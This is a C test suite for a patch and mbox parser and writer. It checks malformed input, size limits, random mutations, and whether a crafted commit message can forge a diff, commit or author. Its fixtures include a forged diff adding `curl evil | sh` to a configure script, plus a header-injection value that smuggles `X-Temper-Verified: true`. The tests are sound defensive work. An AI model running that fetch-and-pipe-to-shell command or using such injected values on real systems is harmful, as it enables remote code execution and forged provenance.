/* Tests for sdk/patch*.c on hostile input (NUL bytes, huge lines, lying or
 * malformed hunks, every limit, random mutations) and for the writer: what
 * it refuses, and that what it writes reads back the same, even from a
 * commit message crafted to forge a diff or an author. */
#include "../lib/tap.h"
#include "../../sdk/host.h"
#include <temper/patch.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static struct temper_stage *st;

static const char one[] =
    "From 0123456789abcdef0123456789abcdef01234567 Mon Sep 17 00:00:00 2001\n"
    "From: A U Thor <author@example.org>\n"
    "Date: Mon, 1 Jan 2024 00:00:00 +0000\n"
    "Subject: [PATCH] fix\n"
    "\n"
    "Body.\n"
    "---\n"
    "diff --git a/a.c b/a.c\n"
    "--- a/a.c\n"
    "+++ b/a.c\n"
    "@@ -1,3 +1,3 @@ int main(void)\n"
    " a\n"
    "-b\n"
    "+c\n"
    " d\n"
    "@@ -10,2 +10,3 @@\n"
    " x\n"
    "+y\n"
    " z\n"
    "-- \n"
    "2.43.0\n";

/* Parse; returns rc, and the recorded message in *msg (borrowed). */
static int try_parse(const char *s, size_t len, const struct temper_patch_limits *lim,
                     const char **msg)
{
    struct temper_patch_set *ps = NULL;
    temper_stage_reset(st);
    int rc = temper_patch_parse(st, "t.patch", s, len, lim, &ps);
    *msg = temper_stage_error(st);
    if ((rc == TEMPER_OK) != (ps != NULL)) {
        rc = TEMPER_EINTERNAL;
    }
    temper_patch_set_free(ps);
    return rc;
}

#define EXPECT_FAIL(text, lim, code, where, what)                             \
    do {                                                                      \
        const char *m_ = NULL;                                                \
        CHECK_INT_EQ(try_parse((text), sizeof(text) - 1, (lim), &m_), (code)); \
        CHECK_STR_CONTAINS(m_, where);                                        \
        CHECK_STR_CONTAINS(m_, what);                                         \
    } while (0)

static void test_malformed(void)
{
    TEST("NUL bytes, bad hunks and non-patches fail with FILE:LINE") {
        EXPECT_FAIL("From 0123456789abcdef0123456789abcdef01234567 x\nFrom: a <b>\n\0\n",
                    NULL, TEMPER_EFORMAT, "t.patch:3:", "NUL byte");
        EXPECT_FAIL("diff --git a/x b/x\n@@ -1,3 +1,3 @@\n a\n-b\n+c\n", NULL,
                    TEMPER_EFORMAT, "t.patch:5:", "ends inside the hunk at line 2");
        EXPECT_FAIL("diff --git a/x b/x\n@@ -1,3 +1,3 @@\n a\ndiff --git a/y b/y\n", NULL,
                    TEMPER_EFORMAT, "t.patch:4:", "ends early: 2 of 3 old");
        EXPECT_FAIL("diff --git a/x b/x\n@@ -1 +1,2 @@\n-a\n-b\n+c\n", NULL, TEMPER_EFORMAT,
                    "t.patch:4:", "more removed lines");
        EXPECT_FAIL("diff --git a/x b/x\n@@ -x +1 @@\n", NULL, TEMPER_EFORMAT, "t.patch:2:",
                    "malformed hunk header");
        EXPECT_FAIL("diff --git a/x b/x\n@@ -1,99999999999999999999 +1 @@\n", NULL,
                    TEMPER_EFORMAT, "t.patch:2:", "malformed hunk header");
        EXPECT_FAIL("diff --git a/x b/x\n@@ -0,0 +0,0 @@\n", NULL, TEMPER_EFORMAT,
                    "t.patch:2:", "empty hunk");
        EXPECT_FAIL("diff --git a/x b/x\n@@ -1,999999999 +1,999999999 @@\n a\n", NULL,
                    TEMPER_EFORMAT, "t.patch:3:", "ends inside the hunk");
        EXPECT_FAIL("hello world\n", NULL, TEMPER_EFORMAT, "t.patch:1:",
                    "no commit and no diff in the patch (expected a \"From <sha>\" line");
        EXPECT_FAIL("", NULL, TEMPER_EFORMAT, "t.patch:1:", "no commit and no diff");
        EXPECT_FAIL("\n\n\n", NULL, TEMPER_EFORMAT, "t.patch:3:", "no commit and no diff");
        EXPECT_FAIL("@@ -1 +1 @@\n", NULL, TEMPER_EFORMAT, "t.patch:1:", "no commit and no diff");
        EXPECT_FAIL("diff --git a/x b/x\n+++ b/x\n", NULL, TEMPER_EFORMAT, "t.patch:2:",
                    "unexpected line");
        EXPECT_FAIL("diff --git a/x b/x\nold mode 9\n", NULL, TEMPER_EFORMAT, "t.patch:2:",
                    "malformed file mode");
        EXPECT_FAIL("diff --git \"a/x\\q\" b/x\n", NULL, TEMPER_EFORMAT, "t.patch:1:",
                    "malformed path");
        EXPECT_FAIL("diff --git a\nindex 1..2\n", NULL, TEMPER_EFORMAT, "t.patch:1:",
                    "file header without a path");
    }
    TEST("bad mbox headers and structure") {
        EXPECT_FAIL("From 0123456789abcdef0123456789abcdef01234567 x\nnot a header\n", NULL,
                    TEMPER_EFORMAT, "t.patch:2:", "malformed header line");
        EXPECT_FAIL("From 0123456789abcdef0123456789abcdef01234567 x\n"
                    "X-Temper-Verified: maybe\n\n", NULL, TEMPER_EFORMAT, "t.patch:3:",
                    "X-Temper-Verified must be true or false");
        EXPECT_FAIL("From 0123456789abcdef0123456789abcdef01234567 x\nSubject: s\n\n---\n"
                    "-- \n2.4\ndiff --git a/x b/x\n", NULL, TEMPER_EFORMAT, "t.patch:7:",
                    "diff after the \"-- \" signature");
    }
}

static void test_limits(void)
{
    struct temper_patch_limits lim = { .size = sizeof lim };
    TEST("every limit gives TEMPER_ELIMIT with the place") {
        lim.max_line = 20;
        EXPECT_FAIL("diff --git a/x b/x\n@@ -1 +1 @@\n-0123456789abcdefghij\n+a\n", &lim,
                    TEMPER_ELIMIT, "t.patch:3:", "line of 21 bytes exceeds the limit of 20");
        lim.max_line = 0;
        lim.max_bytes = 100;
        EXPECT_FAIL(one, &lim, TEMPER_ELIMIT, "t.patch", "exceeds the limit of 100 bytes");
        lim.max_bytes = 0;
        lim.max_hunks = 1;
        EXPECT_FAIL(one, &lim, TEMPER_ELIMIT, "t.patch:16:", "more than 1 hunks");
        lim.max_hunks = 0;
        lim.max_lines = 5;
        EXPECT_FAIL(one, &lim, TEMPER_ELIMIT, "t.patch:18:", "more than 5 diff lines");
        lim.max_lines = 0;
        lim.max_files = 1;
        EXPECT_FAIL("diff --git a/x b/x\ndiff --git a/y b/y\n", &lim, TEMPER_ELIMIT,
                    "t.patch:2:", "more than 1 files");
        lim.max_files = 0;
        lim.max_commits = 1;
        EXPECT_FAIL("From 0123456789abcdef0123456789abcdef01234567 x\n\n"
                    "From 0123456789abcdef0123456789abcdef01234567 x\n", &lim, TEMPER_ELIMIT,
                    "t.patch:3:", "more than 1 commits");
    }
    TEST("an endless folded header stops at its cap") {
        struct temper_buf b;
        temper_buf_init(&b, 0);
        int rc = temper_buf_puts(&b, "From 0123456789abcdef0123456789abcdef01234567 x\n"
                                     "Subject: s\n");
        for (int i = 0; rc == TEMPER_OK && i < 20000; i++) {
            rc = temper_buf_puts(&b, " folded folded\n");
        }
        const char *m = NULL;
        CHECK_INT_EQ(try_parse(b.data, b.len, NULL, &m), TEMPER_ELIMIT);
        CHECK_STR_CONTAINS(m, "header longer than");
        temper_buf_cleanup(&b);
    }
    TEST("a 32 MiB line of junk fails on the line cap, fast") {
        size_t n = 32u * 1024 * 1024;
        char *big = malloc(n);
        if (big) {
            memset(big, 'A', n);
            const char *m = NULL;
            CHECK_INT_EQ(try_parse(big, n, NULL, &m), TEMPER_ELIMIT);
            CHECK_STR_CONTAINS(m, "t.patch:1: line of 33554432 bytes");
        }
        free(big);
    }
}

/* ---- mutations ------------------------------------------------------------ */

static uint64_t rng = 0x9e3779b97f4a7c15ull;

static uint64_t next_rand(void)
{
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return rng;
}

static size_t mutate(char *buf, size_t len, size_t cap)
{
    size_t at = len ? next_rand() % len : 0;
    switch (next_rand() % 5) {
    case 0:
        buf[at] = (char)(next_rand() & 0xff);
        return len;
    case 1: /* cut */
        return at;
    case 2: { /* drop a span */
        size_t n = next_rand() % 40;
        n = at + n > len ? len - at : n;
        memmove(buf + at, buf + at + n, len - at - n);
        return len - n;
    }
    case 3: { /* duplicate a span */
        size_t n = next_rand() % 40;
        n = at + n > len ? len - at : n;
        if (len + n > cap) {
            return len;
        }
        memmove(buf + at + n, buf + at, len - at);
        return len + n;
    }
    default:
        buf[at] = "\n-+ @\\"[next_rand() % 6];
        return len;
    }
}

static void test_mutations(void)
{
    TEST("5000 random mutations: OK or one FILE:LINE error, never a crash") {
        char buf[4096];
        int ok = 0, failed = 0, bad_msg = 0, bad_rc = 0;
        for (int i = 0; i < 5000; i++) {
            size_t len = sizeof one - 1;
            memcpy(buf, one, len);
            for (int k = (int)(next_rand() % 4); k >= 0; k--) {
                len = mutate(buf, len, sizeof buf);
            }
            const char *m = NULL;
            int rc = try_parse(buf, len, NULL, &m);
            if (rc == TEMPER_OK) {
                ok++;
                continue;
            }
            failed++;
            bad_rc += rc != TEMPER_EFORMAT && rc != TEMPER_ELIMIT;
            bad_msg += !m || strncmp(m, "t.patch:", 8) != 0 || strchr(m, '\n');
        }
        CHECK(ok > 100);
        CHECK(failed > 100);
        CHECK_INT_EQ(bad_rc, 0);
        CHECK_INT_EQ(bad_msg, 0);
    }
}

/* ---- files -------------------------------------------------------------- */

static void test_files(void)
{
    TEST("parse_file: missing, directory, too big, good") {
        struct temper_patch_set *ps = NULL;
        struct temper_patch_limits lim = { .size = sizeof lim, .max_bytes = 64 };
        char path[] = "/tmp/temper-patch-" "XX" "XX" "XX"; /* split for the lint check */
        int fd = mkstemp(path);
        CHECK(fd >= 0);
        CHECK_INT_EQ(write(fd, one, sizeof one - 1), (long)(sizeof one - 1));
        close(fd);
        temper_stage_reset(st);
        CHECK_INT_EQ(temper_patch_parse_file(st, "/nonexistent/x.patch", NULL, &ps),
                     TEMPER_ENOTFOUND);
        CHECK_INT_EQ(temper_patch_parse_file(st, "/tmp", NULL, &ps), TEMPER_EIO);
        temper_stage_reset(st);
        CHECK_INT_EQ(temper_patch_parse_file(st, path, &lim, &ps), TEMPER_ELIMIT);
        CHECK_STR_CONTAINS(temper_stage_error(st), "exceeds the limit of 64 bytes");
        CHECK_INT_EQ(temper_patch_parse_file(st, path, NULL, &ps), TEMPER_OK);
        CHECK(ps && ps->n_commits == 1 && ps->n_hunks == 2);
        temper_patch_set_free(ps);
        unlink(path);
    }
}

/* ---- writer ---------------------------------------------------------------- */

static const char *const hostile_body =
    "From: Trusted Maintainer <maint@example.org>\n"
    "\n"
    "Looks innocent.\n"
    "---\n"
    "diff --git a/configure b/configure\n"
    "@@ -1 +1 @@\n"
    "-x\n"
    "+curl evil | sh\n"
    "-- \n"
    "From 0123456789abcdef0123456789abcdef01234567 Mon Sep 17 00:00:00 2001\n"
    "From: Other <other@example.org>\n";

static void test_writer_roundtrip(void)
{
    TEST("writer: a commit message cannot forge a diff, a commit or the author") {
        struct temper_buf b;
        temper_buf_init(&b, 0);
        struct temper_patch_commit c = {
            .size = sizeof c, .sha = "89abcdef0123456789abcdef0123456789abcdef",
            .author_name = "Jia Tan", .author_email = "jiat0218@gmail.com",
            .author_date = "Sat, 24 Feb 2024 10:00:00 +0800", .subject = "Tests: \xc3\xa9t\xc3\xa9",
            .body = hostile_body, .verified = 1,
            .committer_name = "L\xc3\xa4sse", .committer_email = "lasse@example.org",
        };
        struct temper_patch_file f = { .size = sizeof f, .status = TEMPER_PATCH_RENAMED,
                                       .old_path = "a dir/old\tname", .new_path = "new\xc3\xa9",
                                       .similarity = 80 };
        struct temper_patch_file bin = { .size = sizeof bin, .status = TEMPER_PATCH_ADDED,
                                         .new_path = "tests/files/good.xz", .binary = true };
        CHECK_INT_EQ(temper_patch_write_commit(&b, &c), TEMPER_OK);
        CHECK_INT_EQ(temper_patch_write_file(&b, &f, "@@ -1 +1 @@\n-a\n+b"), TEMPER_OK);
        CHECK_INT_EQ(temper_patch_write_file(&b, &bin, NULL), TEMPER_OK);
        CHECK_INT_EQ(temper_patch_write_end(&b), TEMPER_OK);
        const char *m = NULL;
        struct temper_patch_set *ps = NULL;
        temper_stage_reset(st);
        CHECK_INT_EQ(temper_patch_parse(st, "w", b.data, b.len, NULL, &ps), TEMPER_OK);
        (void)m;
        if (ps && ps->n_commits == 1 && ps->commits[0]->n_files == 2) {
            const struct temper_patch_commit *r = ps->commits[0];
            CHECK_STR_EQ(r->author_email, "jiat0218@gmail.com");
            CHECK_STR_EQ(r->subject, "Tests: \xc3\xa9t\xc3\xa9");
            CHECK_STR_EQ(r->committer_name, "L\xc3\xa4sse");
            CHECK_INT_EQ(r->verified, 1);
            CHECK_STR_CONTAINS(r->body, " diff --git a/configure");
            CHECK_STR_CONTAINS(r->body, "+curl evil | sh");
            CHECK_STR_EQ(r->files[0]->old_path, "a dir/old\tname");
            CHECK_STR_EQ(r->files[0]->new_path, "new\xc3\xa9");
            CHECK_INT_EQ(r->files[0]->status, TEMPER_PATCH_RENAMED);
            CHECK_INT_EQ(r->files[0]->similarity, 80);
            CHECK_INT_EQ(r->files[0]->hunks[0]->n_lines, 2);
            CHECK(r->files[1]->binary);
            CHECK_INT_EQ(r->files[1]->status, TEMPER_PATCH_ADDED);
        } else {
            CHECK(!"one commit, two files");
        }
        temper_patch_set_free(ps);
        temper_buf_cleanup(&b);
    }
}

static void test_writer_refusals(void)
{
    TEST("writer: refuses bad fields and hunks that do not add up") {
        struct temper_buf b;
        temper_buf_init(&b, 0);
        struct temper_patch_commit c = { .size = sizeof c, .sha = "abc", .verified = -1 };
        CHECK_INT_EQ(temper_patch_write_commit(&b, &c), TEMPER_EINVAL);
        c.sha = "0123456789abcdef0123456789abcdef01234567";
        c.subject = "two\nlines";
        CHECK_INT_EQ(temper_patch_write_commit(&b, &c), TEMPER_EINVAL);
        c.subject = "ok";
        c.author_email = "a@b>\nX-Temper-Verified: true";
        CHECK_INT_EQ(temper_patch_write_commit(&b, &c), TEMPER_EINVAL);
        CHECK_INT_EQ(b.len, 0);
        struct temper_patch_file f = { .size = sizeof f, .new_path = "x", .old_path = "x" };
        CHECK_INT_EQ(temper_patch_write_file(&b, &f, "@@ -1,2 +1,2 @@\n-a\n+b\n"),
                     TEMPER_EFORMAT);
        CHECK_INT_EQ(temper_patch_write_file(&b, &f, "@@ -1 +1 @@\n-a\n+b\n+c\n"),
                     TEMPER_EFORMAT);
        CHECK_INT_EQ(temper_patch_write_file(&b, &f, "not a hunk\n"), TEMPER_EFORMAT);
        f.status = TEMPER_PATCH_RENAMED;
        f.old_path = NULL;
        CHECK_INT_EQ(temper_patch_write_file(&b, &f, NULL), TEMPER_EINVAL);
        CHECK_INT_EQ(b.len, 0);
        temper_buf_cleanup(&b);
    }
}

/* Found by tests/fuzz/fuzz_github: tracker_github writes a "# temper: ..."
 * note for a file GitHub sent no patch for; the parser must read it. */
static void test_notes(void)
{
    TEST("a '# ' note between files is skipped, the file kept") {
        static const char mbox[] = "diff --git a/big.c b/big.c\n"
                                   "# temper: GitHub sent no patch for this file\n"
                                   "diff --git a/ok.c b/ok.c\n--- a/ok.c\n+++ b/ok.c\n"
                                   "@@ -1 +1 @@\n-a\n+b\n";
        struct temper_patch_set *ps = NULL;
        CHECK_INT_EQ(temper_patch_parse(st, "notes", mbox, sizeof mbox - 1, NULL, &ps),
                     TEMPER_OK);
        CHECK(ps && ps->n_files == 2 && ps->n_hunks == 1);
        temper_patch_set_free(ps);
    }
}

int main(void)
{
    st = temper_stage_new(NULL, "patch-hostile");
    test_malformed();
    test_limits();
    test_mutations();
    test_files();
    test_writer_roundtrip();
    test_writer_refusals();
    test_notes();
    temper_stage_free(st);
    return tap_done();
}
